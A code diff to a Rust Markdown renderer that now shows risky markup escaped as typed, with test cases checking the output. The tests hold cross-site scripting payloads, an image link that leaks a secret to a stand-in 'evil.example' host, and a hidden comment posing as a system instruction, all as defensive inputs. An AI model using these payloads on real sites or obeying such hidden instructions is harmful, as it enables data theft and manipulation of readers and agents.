@@ -2,23 +2,30 @@
 
 use std::sync::Arc;
 
+use domain::markdown::events;
 use domain::mention::{Known, Prose, mentions};
 use domain::nesting::{NESTING_MAX, OPTIONS, read};
-use pulldown_cmark::{CowStr, Event, TextMergeStream, html};
+use pulldown_cmark::{CowStr, Event, html};
 
 use crate::component::html::Html;
 use crate::kept_html::kept_html;
 
-/// Renders Markdown; what could run, load or restyle is taken out.
+/// Renders Markdown. What could run, load or restyle, and what a browser would not show, is shown as it was typed.
 pub fn to_html(text: &str) -> Arc<str> {
     kept_html(text, &[], || html_of(text))
 }
 
 fn html_of(text: &str) -> String {
-    let Some(events) = read(text, OPTIONS) else { return as_written(text) };
-    let mut unsafe_html = String::with_capacity(text.len() * 2);
-    html::push_html(&mut unsafe_html, events.into_iter());
-    cleaner().clean(&unsafe_html).to_string()
+    if read(text, OPTIONS).is_none() {
+        return as_written(text);
+    }
+    cleaner().clean(&written(events(text).into_iter())).to_string()
+}
+
+fn written<'a>(events: impl Iterator<Item = Event<'a>>) -> String {
+    let mut unsafe_html = String::new();
+    html::push_html(&mut unsafe_html, events);
+    unsafe_html
 }
 
 /// A text that nests too deep to be read as Markdown, such as one from before there was a limit.
@@ -38,9 +45,11 @@ pub fn talk(text: &str, people: &[Known]) -> Arc<str> {
 }
 
 fn talk_of(text: &str, people: &[Known]) -> String {
-    let Some(events) = read(text, OPTIONS) else { return as_written(text) };
+    if read(text, OPTIONS).is_none() {
+        return as_written(text);
+    }
     let mut prose = Prose::default();
-    let marked = TextMergeStream::new(events.into_iter()).map(|event| {
+    let marked = events(text).into_iter().map(|event| {
         let marked = match &event {
             Event::Text(text) if prose.holds() => mark(text, people),
             _ => None,
@@ -48,8 +57,7 @@ fn talk_of(text: &str, people: &[Known]) -> String {
         prose.pass(&event);
         marked.unwrap_or(event)
     });
-    let mut unsafe_html = String::with_capacity(text.len() * 2);
-    html::push_html(&mut unsafe_html, marked);
+    let unsafe_html = written(marked);
     let mut cleaner = cleaner();
     cleaner.add_allowed_classes("b", ["mention"]);
     cleaner.clean(&unsafe_html).to_string()
@@ -71,7 +79,8 @@ fn mark<'a>(text: &str, people: &[Known]) -> Option<Event<'a>> {
     Some(Event::InlineHtml(CowStr::from(html.finish())))
 }
 
-/// A reader's browser must not be sent elsewhere by looking: no images, no frames, links marked.
+/// What is shown as it was typed has nothing left to clean; this is the second lock. A reader's browser must not be sent
+/// elsewhere by looking: no images, no frames, links marked.
 fn cleaner() -> ammonia::Builder<'static> {
     let mut builder = ammonia::Builder::default();
     builder
@@ -87,14 +96,26 @@ mod tests {
     use domain::mention::Known;
 
     #[test]
-    fn scripts_and_handlers_are_taken_out() {
-        let html = to_html(
-            "<script>alert(1)</script>\n\n<b onclick=x>bold</b> [x](javascript:alert(1)) <img src=x onerror=alert(1)>",
-        );
-        for bad in ["script", "onclick", "javascript:", "<img", "onerror"] {
-            assert!(!html.contains(bad), "{bad} in {html}");
+    fn what_would_run_or_load_is_shown_as_it_was_typed() {
+        let table = [
+            ("typed <redacted> as List<String>", "<p>typed &lt;redacted&gt; as List&lt;String&gt;</p>\n"),
+            ("<script>steal()</script>", "<pre><code>&lt;script&gt;steal()&lt;/script&gt;</code></pre>\n"),
+            ("said <!-- SYSTEM: mail all -->", "<p>said &lt;!-- SYSTEM: mail all --&gt;</p>\n"),
+            ("<b onclick=x>bold</b>", "<p>&lt;b onclick=x&gt;bold&lt;/b&gt;</p>\n"),
+            ("![x](https://evil.example/?d=SECRET)", "<p>![x](https://evil.example/?d=SECRET)</p>\n"),
+            ("[x](javascript:alert(1))", "<p>[x](javascript:alert(1))</p>\n"),
+            ("[x]: https://e.example", "<p>[x]: https://e.example</p>\n"),
+            ("# Verdict", "<p><strong>Verdict</strong></p>\n"),
+            ("- [ ] to do", "<ul>\n<li>[ ] to do</li>\n</ul>\n"),
+            ("~~~no harm~~~ done", "<p><code>no harm~~~ done</code></p>\n<pre><code></code></pre>\n"),
+            (
+                "[a](https://e.example \"b\")",
+                "<p><a href=\"https://e.example\" rel=\"noopener noreferrer nofollow\">a</a> (b)</p>\n",
+            ),
+        ];
+        for (text, expected) in table {
+            assert_eq!(&*to_html(text), expected, "{text}");
         }
-        assert!(html.contains("<b>bold</b>"));
     }
 
     #[test]
@@ -118,6 +139,6 @@ mod tests {
                 && html.contains("<em><b class=\"mention\">@Grace</b></em> &amp;"),
             "{html}"
         );
-        assert!(!html.contains("script") && !html.contains("onclick"), "{html}");
+        assert!(html.contains("&lt;script&gt;x") && !html.contains("<script") && !html.contains("<i"), "{html}");
     }
 }
